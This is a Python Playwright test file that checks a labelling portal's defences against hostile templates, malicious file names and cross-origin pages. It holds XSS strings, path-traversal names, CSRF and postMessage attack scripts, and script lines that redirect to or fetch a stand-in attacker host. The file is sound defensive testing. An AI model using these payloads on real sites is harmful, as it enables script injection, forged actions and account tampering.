"""Hostile templates, names and neighbors in a real browser: what they reach, and what people see of them."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from attack_parts import ATTACKS, UNWALLED, Attacker, Outcome, strike
from attack_table import told
from browser import DESKTOP, until
from playwright.sync_api import Browser, BrowserContext, Error, Frame, Page
from portal_parts import png, premises
from sqlalchemy import func, select
from visitor_parts import SECRET, TEMPLATE, Premises, Visitor

from gtlabel.emulator.child import Address
from gtlabel.engine.crew import Role
from gtlabel.engine.jobs import JobKey, Kind
from gtlabel.engine.pages import Pages
from gtlabel.engine.schema import answers, jobs
from gtlabel.engine.store import Store
from gtlabel.portal.pictures import Pictures
from gtlabel.uris import S3Uri

Struck = tuple[dict[str, Outcome], dict[str, Outcome], dict[str, int]]

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "\"><script>document.title='owned'</script>",
    "'; alert(1) //",
    "{{ 7 | times: 6 }}{% raw %}",
    "${6*7} &lt;b&gt; &amp;amp;",
    "</script></title><!--",
    "back\\slash \\u0022 \\n",
    "javascript:alert(1)",
    "Ünïcode 漢字 🙂 عربي",
]
KEYS = [
    'a "quoted" <b>key</b>.png',
    "../../up.png",
    "a/./b/..//c.png",
    "%2e%2e/percent%20%.png",
    "hash#tag?query=1&x=y.png",
    "ünïcode 漢字 🙂.png",
    "'; alert(1) //.png",
    "javascript:alert(1)",
    "plus+and;semicolon, comma.png",
]


# ---- hostile templates -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def struck(
    browser: Browser, gtlabel_server: Address, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Struck]:
    """What came of all attacks behind our walls and without them, and how many answers each job got."""
    from emulator_parts import clients

    folder = tmp_path_factory.mktemp("attacked")
    with premises(gtlabel_server.url, clients(gtlabel_server), folder) as there:
        walled, plain = strike(browser, there, together=True)
        count = select(jobs.c.name, func.count()).join(answers, answers.c.job == jobs.c.id)
        with there.store.read() as connection:
            rows = connection.execute(count.group_by(jobs.c.name)).all()
        stored = {row.name: row[1] for row in rows}
        yield walled, plain, stored


@pytest.mark.parametrize("name", [name for name in ATTACKS if name != "own-answer"])
def test_a_hostile_template_reaches_nobody(struck: Struck, name: str) -> None:
    walled, _, _ = struck
    assert walled[name].said or walled[name].crashed, "it did not run"
    assert walled[name].reached == []


@pytest.mark.parametrize("name", UNWALLED)
def test_without_walls_the_same_template_reaches_somebody(struck: Struck, name: str) -> None:
    _, plain, _ = struck
    assert plain[name].reached


def test_a_template_answers_its_own_tasks_and_no_others(struck: Struck) -> None:
    """By design: it is as trusted as whoever made its job (contract/worker-ui.md 4.3)."""
    walled, _, stored = struck
    assert stored == {"own-answer": 1}
    assert all(done.startswith('POST /api/submit {"lease":') for done in walled["own-answer"].reached)


def test_the_table_of_attacks_says_what_each_of_them_tried_and_met(struck: Struck) -> None:
    walled, plain, _ = struck
    lines, well = told(walled, plain)
    assert well, "\n".join(lines)
    assert len(lines) == len(ATTACKS) + 4
    assert lines[-1] == f"{len(ATTACKS)} attacks; reached another origin or the API: none"
    leaky = {**walled, "fetch": Outcome("fetch", ["got fetch"], ["GET /fetch/fetch"])}
    lines, well = told(leaky, plain)
    assert not well
    assert lines[-1].endswith("the API: fetch")


# ---- one portal for the rest -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    there = Attacker()
    yield there
    there.close()


def a_portal(folder: Path, template: str = TEMPLATE, **spec: Any) -> Premises:
    """A portal with a job of pictures whose names are hostile."""
    lines = [json.dumps({"source-ref": S3Uri.of("trash", key)}) for key in KEYS]
    title = {"TaskTitle": HOSTILE[0] + HOSTILE[1], "TaskDescription": HOSTILE[2] + HOSTILE[3]}
    store = Store(f"sqlite:///{folder / 'engine.sqlite'}")
    there = Premises(store, lines, **{"request": {"HumanTaskConfig": title}, "max_concurrent": 20, **spec})
    for number, key in enumerate(KEYS):
        there.shop.bucket.files[key] = png(number * 20)
    Pages(there.shop.store).keep(there.job, template)
    return there


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Premises]:
    there = a_portal(tmp_path_factory.mktemp("here"), classes=HOSTILE, workers_per_object=2)
    yield there
    there.close()


def signed_in(browser: Browser, there: Premises, name: str, role: Role = Role.WORKER) -> BrowserContext:
    """The browser of somebody who came in."""
    visitor = there.somebody(name, role=role)
    context = browser.new_context(viewport=DESKTOP)
    ((cookie, session),) = visitor.cookies.items()
    context.add_cookies(
        [{"name": cookie, "value": session, "url": there.url, "httpOnly": True, "sameSite": "Strict"}]
    )
    context.on("dialog", lambda dialog: pytest.fail(f"a dialog came: {dialog.message}"))
    return context


_SHOWN = """() => document.querySelector('crowd-image-classifier')?.shadowRoot
  ?.querySelector('img')?.naturalWidth"""


def front(page: Page) -> Frame:
    """The page of the task on show, once its picture is there."""

    def look() -> Frame | None:
        element = page.query_selector("iframe.front")
        frame = element.content_frame() if element else None
        try:
            return frame if frame and frame.evaluate(_SHOWN) else None
        except Error:
            # The frame goes on to a task while it is asked.
            return None

    frame = until(look, "a task with its picture")
    assert frame is not None
    return frame


# ---- hostile names -----------------------------------------------------------------------------------------


def test_hostile_names_are_text_wherever_people_see_them(browser: Browser, here: Premises) -> None:
    worker = signed_in(browser, here, "ann")
    page = worker.new_page()
    page.goto(here.url)
    page.wait_for_selector(".card")
    for text in (HOSTILE[0] + HOSTILE[1], HOSTILE[2] + HOSTILE[3]):
        assert text in page.inner_text(".card")

    page.goto(f"{here.url}/work/{here.number}")
    frame = front(page)
    assert page.inner_text("#title") == page.title() == frame.title() == HOSTILE[0] + HOSTILE[1]
    labels = frame.locator("label.option")
    assert [text for text in HOSTILE if not labels.filter(has_text=text).count()] == []
    labels.filter(has_text=HOSTILE[1]).click()
    frame.locator("crowd-button").click()
    until(lambda: HOSTILE[1] in page.inner_text("#chip"), "what was chosen, in words")

    def said() -> Sequence[str]:
        # A connection that has looked once sees nothing that comes later.
        with here.shop.store.read() as connection:
            return connection.execute(select(answers.c.content)).scalars().all()

    (stored,) = until(said, "an answer")
    assert json.loads(stored) == {"crowd-image-classifier": {"label": HOSTILE[1]}}
    page.close()

    page = worker.new_page()
    page.goto(f"{here.url}/work/{here.number}?view=grid")
    until(lambda: page.locator("img").count() >= 3, "the grid")
    until(lambda: HOSTILE[0] in page.inner_text("body"), "its name")
    _has_only_text(page)
    worker.close()


def test_pictures_of_hostile_names_are_shown(browser: Browser, here: Premises) -> None:
    """A browser changes an address that it takes for another way to write it, and then it is nobody's."""
    context = signed_in(browser, here, "bea")
    page = context.new_page()
    page.goto(here.url)
    pictures = Pictures(SECRET, lambda *_: b"")
    addresses = [pictures.address(here.job.key, S3Uri.of("trash", key)) for key in KEYS]
    widths = page.evaluate(
        """(addresses) => Promise.all(addresses.map((address) => new Promise((done) => {
          const image = new Image();
          image.onload = () => done(image.naturalWidth);
          image.onerror = () => done(0);
          image.src = address;
        })))""",
        addresses,
    )
    assert dict(zip(KEYS, widths, strict=True)) == dict.fromkeys(KEYS, 64)
    context.close()


def test_an_owner_sees_hostile_names_and_answers_as_text(browser: Browser, tmp_path: Path) -> None:
    there = a_portal(tmp_path, kind=Kind.CUSTOM, class_list=None, workers_per_object=2)
    odd: list[Any] = [
        {HOSTILE[0]: HOSTILE[1]},
        {"crowd-image-classifier": {"label": HOSTILE[1]}},
        {"crowd-image-classifier": {"labels": None}, "workerComment": HOSTILE[0]},
        {"crowd-image-classifier-multi-select": {"labels": [HOSTILE[0], {"x": 1}, None]}},
        {"crowd-image-classifier": {"label": {"deep": [HOSTILE[5]]}}},
        {"__proto__": {"polluted": 1}, "constructor": "x"},
        {"long": "<b>" * 100_000},
        {"empty": []},
    ]
    for name in ("kim", "lee"):
        visitor = there.somebody(name)
        for number in range(8):
            task = visitor.lease(there.number)
            said = odd[(number if name == "kim" else number + 1) % 8]
            assert visitor.post("/api/submit", {"lease": task["lease"], "answer": said}).status == 200
    owner = signed_in(browser, there, "boss", Role.OWNER)
    page = owner.new_page()
    page.goto(f"{there.url}/owner/jobs/{there.number}")
    until(lambda: page.locator("#disputed img").count() == 8, "the disputed pictures")
    page.evaluate("() => scrollTo(0, document.body.scrollHeight)")
    body = page.inner_text("body")
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[5], '"polluted"', "<b><b>"):
        assert text in body, text
    assert len(body) < 20_000
    _has_only_text(page)
    for path in ("/owner", "/owner/people"):
        page.goto(there.url + path)
        until(lambda: "kim" in page.inner_text("body") or HOSTILE[0] in page.inner_text("body"), path)
        _has_only_text(page)
    owner.close()
    there.close()


def _has_only_text(page: Page) -> None:
    """Nothing of a page is a node that somebody's name made."""
    made = "body b, body script:not([src]), body title, img[onerror], img[src='x'], a[href^='javascript']"
    assert page.locator(made).count() == 0
    assert page.title() != "owned"
    assert page.evaluate("() => ({}).polluted") is None


# ---- links, and pages elsewhere ----------------------------------------------------------------------------


def test_a_link_opens_after_a_worker_has_read_where_it_leads(
    browser: Browser, attacker: Attacker, tmp_path: Path
) -> None:
    link = f'<a id="out" href="{attacker.url}/links/clicked">more</a>'
    there = a_portal(tmp_path, TEMPLATE.replace("</short-instructions>", f"{link}</short-instructions>"))
    context = signed_in(browser, there, "ann")
    page = context.new_page()
    page.goto(f"{there.url}/work/{there.number}")
    link_in = front(page).locator("#out").first
    link_in.click()
    dialog = page.locator("#confirm")
    dialog.wait_for()
    assert f"{attacker.url}/links/clicked" in dialog.inner_text()
    assert attacker.url.removeprefix("http://") in page.inner_text("#confirm-title")
    with context.expect_page() as opened:
        page.locator("#confirm-yes").click()
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("() => [opener, document.referrer]") == [None, ""]
    opened.value.close()
    link_in.click()
    dialog.wait_for()
    page.keyboard.press("Escape")
    # Whoever said no is not asked again by this page.
    link_in.click()
    page.wait_for_timeout(200)
    assert not dialog.is_visible()
    assert len(context.pages) == 1
    assert attacker.hits.pop("links") == ["GET /links/clicked"]
    context.close()
    there.close()


def test_the_page_of_a_task_is_nothing_outside_of_its_frame(
    browser: Browser, attacker: Attacker, tmp_path: Path
) -> None:
    hostile = f"<script>location = '{attacker.url}/alone/' + document.title</script>"
    there = a_portal(tmp_path, hostile + TEMPLATE)
    context = signed_in(browser, there, "ann")
    page = context.new_page()
    page.goto(there.url)
    task = page.evaluate(
        """(job) => fetch('/api/lease', {method: 'POST', body: JSON.stringify({job}),
          headers: {'X-Gtlabel': '1'}}).then((answer) => answer.json())""",
        there.number,
    )
    page.goto(f"{there.url}/frame/{task['lease']}")
    until(lambda: "does not come from a page of this portal" in page.inner_text("body"), "a refusal")
    page.wait_for_timeout(300)
    assert page.evaluate("() => origin") == "null"
    assert "alone" not in attacker.hits
    context.close()
    there.close()


_FOREIGN = """<title>elsewhere</title><script>
  const portal = '%(portal)s';
  const report = (said) => console.log(`attack: elsewhere: ${said}`);
  const headers = {'Content-Type': 'application/json', 'X-Gtlabel': '1'};
  const tries = [
    ['lease', {method: 'POST', mode: 'no-cors', body: '{"job": 1}'}],
    ['lease', {method: 'POST', headers, body: '{"job": 1}'}],
    ['owner/people', {method: 'POST', mode: 'no-cors', body: '{"name": "mallory"}'}],
    ['owner/people/ann/deactivate', {method: 'POST', mode: 'no-cors'}],
    ['owner/jobs/1/stop', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}}],
    ['me', {}],
  ];
  for (const [path, options] of tries) {
    fetch(`${portal}/api/${path}`, {credentials: 'include', ...options})
      .then(async (answer) => (await answer.text()) && report(`got ${path}`), () => {});
  }
  for (const path of ['/', '/owner', '/work/1', '/frame/%(lease)s', '/join/%(invite)s', '%(picture)s']) {
    const frame = document.createElement('iframe');
    frame.src = portal + path;
    document.documentElement.append(frame);
  }
  const script = document.createElement('script');
  script.src = `${portal}/api/me`;
  script.onload = () => report('got a script of what only ann may know');
  document.documentElement.append(script);
  for (const action of ['/leave', '/join/%(invite)s', '/api/owner/jobs/1/stop']) {
    const form = document.createElement('form');
    const frame = document.createElement('iframe');
    frame.name = action;
    Object.assign(form, {method: 'post', action: portal + action, target: action, enctype: 'text/plain'});
    document.documentElement.append(frame, form);
    form.submit();
  }
  const shell = window.open(`${portal}/work/1`);
  setInterval(() => {
    const {href} = location;
    for (const [type, content] of [['submit', {answer: {}}], ['key', {key: '?'}], ['link', {href}]]) {
      shell?.postMessage({type: `gtlabel:${type}`, nonce: '', ...content}, '*');
      shell?.frames[0]?.postMessage({type: `gtlabel:${type}`, nonce: '', ...content}, '*');
    }
  }, 50);
  setTimeout(() => report('done'), 1000);
</script>"""


def test_a_page_elsewhere_acts_for_nobody(browser: Browser, here: Premises, attacker: Attacker) -> None:
    """It is on the same machine, so that the cookie goes with what it sends: all but the origin is right."""
    context = signed_in(browser, here, "cat", Role.OWNER)
    lease = _lease_of(here, "cat")
    here.add("dan")
    invite = here.crew.invite("dan")
    address = Pictures(SECRET, lambda *_: b"").address(here.job.key, S3Uri.of("trash", KEYS[0]))
    attacker.pages["elsewhere"] = _FOREIGN % {
        "portal": here.url,
        "lease": lease,
        "invite": invite,
        "picture": address,
    }
    said: list[str] = []
    page = context.new_page()
    page.on("console", lambda one: said.append(one.text))
    with page.expect_console_message(lambda one: one.text.endswith("done")):
        page.goto(f"{attacker.plain}/page/elsewhere")
    framed = [frame.url for frame in page.frames[1:]]
    # Only an object may stand elsewhere, for whoever has its address.
    assert [url for url in framed if url.startswith(here.url)] == [here.url + address]
    assert [one for one in said if one.startswith("attack:")] == ["attack: elsewhere: done"]
    context.close()
    assert Visitor(here.url).post(f"/join/{invite}", X_Gtlabel=None).status == 303
    names = {worker.name: worker.active for worker in here.crew.workers()}
    assert "mallory" not in names
    assert names["ann"]
    assert not here.job.status.ended
    with here.shop.store.read() as connection:
        said_by = select(func.count()).where(answers.c.worker == here.crew.worker("cat").sub)
        assert connection.execute(said_by).scalar_one() == 0


def _lease_of(there: Premises, name: str) -> str:
    key: JobKey = there.job.key
    task = there.shop.board.lease(key, there.crew.worker(name).sub)
    assert task is not None
    return task.lease


def test_a_picture_is_no_page_that_runs(browser: Browser, here: Premises, attacker: Attacker) -> None:
    body = f'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("{attacker.url}/svg/run")</script></svg>'
    here.shop.bucket.files["page.svg"] = body.encode()
    here.shop.bucket.files["page.html"] = body.replace("svg", "html").encode()
    context = signed_in(browser, here, "eve")
    for key, kind in (("page.svg", "image/svg+xml"), ("page.html", "")):
        address = Pictures(SECRET, lambda *_: b"").address(here.job.key, S3Uri.of("trash", key))
        page = context.new_page()
        if kind:
            page.goto(here.url + address)
            assert page.evaluate("() => [document.contentType, origin]") == [kind, "null"]
        else:
            # What is no picture is kept as a file and never shown.
            with page.expect_download():
                page.evaluate("(address) => { location = address; }", here.url + address)
        page.wait_for_timeout(200)
        page.close()
    assert "svg" not in attacker.hits
    context.close()
